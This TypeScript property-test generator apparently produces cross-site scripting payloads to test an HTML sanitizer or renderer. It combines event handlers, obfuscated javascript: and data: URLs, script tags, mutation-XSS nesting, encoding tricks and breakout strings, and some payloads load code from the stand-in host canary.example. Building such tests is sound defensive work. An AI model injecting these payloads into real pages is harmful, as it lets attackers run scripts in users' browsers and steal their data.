import fc from 'fast-check';
import {
  DISGUISES,
  EVENTS,
  HOLES,
  PROTOCOLS,
  TAGS,
  TRIGGERS,
  URL_ATTRIBUTES,
} from './attackParts.ts';

/** What an attack runs: `window.__ran` records it, and no request may ever reach the host. */
const SCRIPTS = [
  '__ran()',
  'top.__ran()',
  'window[`__ran`]()',
  "eval('__ran()')",
  'setTimeout(`__ran()`)',
  "new Image().src='//canary.example/s'",
  "import('//canary.example/s.js')",
];
const ADDRESSES = ['//canary.example/a', 'https://canary.example/a', '/\\canary.example/a'];

const script = fc.constantFrom(...SCRIPTS);
const space = fc.constantFrom(' ', '/', '\t', '\n', '\f', '\r', '\u000b', '\0', '/ /', '');
const quote = fc.constantFrom('"', "'", '`', '', '&quot;', '"">"');
const tag = fc.constantFrom(...TAGS);
const disguise = fc.constantFrom(...DISGUISES);

/** `<svg/onload="__ran()">`: an event of an element, with what makes it happen. */
const handler = fc
  .tuple(tag, space, fc.constantFrom(...TRIGGERS), fc.constantFrom(...EVENTS), quote, script)
  .map(([name, gap, trigger, event, q, code]) => {
    const at = gap || ' ';
    return `<${name}${at}${trigger}${at}${event}=${q}${code}${q}>x</${name}>`;
  });

/** `<a href="java&Tab;script:__ran()">`: an address that is a script, or somebody else's. */
const address = fc
  .tuple(tag, fc.constantFrom(...URL_ATTRIBUTES), quote, fc.constantFrom(...PROTOCOLS), script)
  .chain(([name, attribute, q, protocol, code]) =>
    fc
      .oneof(
        disguise.map((hide) => hide(protocol) + code),
        fc.constantFrom(...ADDRESSES),
        fc.constant(`data:text/html;base64,${btoa(`<script>${code}</script>`)}`),
        fc.constant(
          `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
        ),
      )
      .map((url) => `<${name} ${attribute}=${q}${url}${q}>x</${name}>`),
  );

/** A script element in every spelling. */
const element = fc
  .tuple(fc.constantFrom('script', 'ScRiPt', 'svg:script', 'scr\0ipt'), space, script)
  .chain(([name, gap, code]) =>
    fc.constantFrom(
      `<${name}${gap}>${code}</${name}>`,
      `<${name}${gap}src=//canary.example/s.js></${name}>`,
      `<${name} type=module>${code}</${name}`,
      `<<${name}>${code}//<</${name}>`,
      `<style>@import '//canary.example/s.css';</style><${name}>${code}`,
    ),
  );

const plain = fc.oneof(handler, address, element);

/** Markup that parsers read one way and, once printed, another: the attack lies in the gap. */
const mutation = fc
  .tuple(fc.constantFrom(...HOLES), plain, fc.integer({ min: 1, max: 3 }))
  .map(([hole, inner, times]) => {
    let attack = inner;
    for (let time = 0; time < times; time += 1) attack = hole.replaceAll('HOLE', () => attack);
    return attack;
  });

/** The whole attack written once more in a way that something on its way might undo. */
const encoded = fc
  .tuple(fc.oneof(plain, mutation), fc.integer({ min: 0, max: 7 }))
  .map(([attack, kind]) => WRITINGS[kind]?.(attack) ?? attack);

const WRITINGS: ((attack: string) => string)[] = [
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => attack.replaceAll('<', '&amp;lt;'),
  (attack) => attack.replaceAll('<', '&#x0003c').replaceAll('>', '&#62'),
  (attack) => encodeURIComponent(attack.toWellFormed()),
  (attack) => attack.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (attack) => attack.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (attack) => attack.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (attack) => attack.replaceAll('<', '<\u200b').replaceAll('=', '\u202e='),
];

/** Ways out of an attribute, a text, a script, a comment, a template. */
const breakout = fc
  .tuple(
    fc.constantFrom(
      '">',
      "'>",
      '`>',
      '-->',
      '--!>',
      ']]>',
      '</title>',
      '</textarea>',
      '</style>',
      '"/>',
      '</script>',
      '</main></body></html>',
      '</svg>',
      '</template>',
      '\u2028',
      '\\">',
      '\ud800',
      '" autofocus onfocus=__ran() x="',
      "' onmouseover=__ran() x='",
      '"};__ran();//',
      '\\";__ran();//',
      "'-__ran()-'",
      '`$' + '{__ran()}`',
      '{{constructor.constructor`__ran()`()}}',
    ),
    fc.oneof(plain, mutation, encoded),
  )
  .map(([out, attack]) => out + attack);

const anyAttack = fc.oneof(plain, mutation, mutation, encoded, breakout);

/** So many different attacks on what prints foreign text and HTML; the same ones for the same seed. */
export function generatedAttacks(count: number, seed = 8): string[] {
  const drawn = fc.sample(anyAttack, { numRuns: count + Math.ceil(count / 4), seed });
  return [...new Set(drawn)].slice(0, count);
}
